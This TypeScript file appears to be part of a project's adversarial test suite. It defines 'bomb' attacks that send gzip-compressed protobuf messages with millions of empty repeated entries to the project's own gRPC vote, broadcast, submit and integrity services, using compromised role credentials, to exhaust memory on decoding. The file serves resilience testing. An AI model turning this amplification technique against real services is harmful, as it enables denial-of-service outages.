/**
 * Messages of many empty entries: two bytes each on the wire, hundreds in memory once they are
 * decoded, and compressed a thousandth of their length. One for each door that takes a repeated
 * field, in the name of who may come in by it.
 */
import { create, toBinary } from "@bufbuild/protobuf";
import { SubmissionHeaderSchema } from "../../../src/gen/bss/v1/record_pb.js";
import type { Role } from "../../../src/rpc/tls/tls-identity.js";
import { type Attack, Counts } from "../attack.js";
import { endOf, every, pause } from "../pace.js";
import { dialRaw, frame, gzipFrame } from "../raw-call.js";
import { compromised, type Target } from "../target.js";
import { emptyFields, field } from "../wire.js";

const intervalMs = 1_500;
const answerMs = 10_000;
/** Below the 16 MiB that peers, and the 4 MiB that participants may send. */
const peerEntries = 8_000_000;
const participantEntries = 2_000_000;
/** What fits into 16 KiB without compression. */
const plainEntries = 8_000;

type Door = {
  readonly name: string;
  readonly role: Role;
  readonly about: string;
  readonly method: string;
  readonly message: (entries: number, target: Target) => Uint8Array;
  readonly entries: number;
};

const doors: readonly Door[] = [
  {
    name: "fork-bomb",
    role: "storage",
    about: "a proof of a fork with millions of empty signatures",
    method: "bss.v1.VerifyIntegrityService/VerifyIntegrity",
    message: (entries) => field(5, field(1, emptyFields(4, entries))),
    entries: peerEntries,
  },
  {
    name: "vote-bomb",
    role: "manager",
    about: "the same on the stream of votes",
    method: "bss.v1.VoteService/Vote",
    message: (entries) => field(10, field(1, emptyFields(4, entries))),
    entries: peerEntries,
  },
  {
    name: "verdict-bomb",
    role: "manager",
    about: "a verdict on millions of submissions without an id",
    method: "bss.v1.BroadcastService/Broadcast",
    message: (entries) => field(2, emptyFields(1, entries)),
    entries: peerEntries,
  },
  {
    name: "submit-bomb",
    role: "participant",
    about: "a submission of millions of empty records",
    method: "bss.v1.BroadcastService/Submit",
    message: (entries, target) => {
      const { genesis } = target.profile(compromised.participants[0]);
      const { consortiumId } = genesis;
      const header = create(SubmissionHeaderSchema, {
        consortiumId,
        participantId: compromised.participants[0],
      });
      const signed = [
        field(1, toBinary(SubmissionHeaderSchema, header)),
        field(2, Buffer.alloc(64)),
      ];
      return field(1, Buffer.concat([...signed, emptyFields(3, entries)]));
    },
    entries: participantEntries,
  },
];

export const emptyEntries: readonly Attack[] = doors.map((door) => {
  const { name, role, about, method, entries, message } = door;
  return {
    name,
    role,
    about,
    run: async (target, signal) => {
      const counts = new Counts();
      const tls = target.tlsOf(role);
      const compressed = gzipFrame(message(entries, target));
      const plain = frame(message(plainEntries, target));
      if (tls === undefined) return counts.tally;
      await every(intervalMs, signal, async (turn) => {
        const address = target.manager(turn);
        const connection = await dialRaw(address, tls).catch(() => undefined);
        if (connection === undefined) return counts.add("no connection");
        for (const bytes of [plain, compressed]) {
          const call = connection.call(method, bytes === compressed ? { encoding: "gzip" } : {});
          call.write(bytes);
          call.end();
          counts.add(bytes === compressed ? "sent compressed" : "sent plain");
          counts.add(await endOf(call.answer(), answerMs, signal));
          await pause(0, signal);
        }
        connection.close();
      });
      return counts.tally;
    },
  };
});
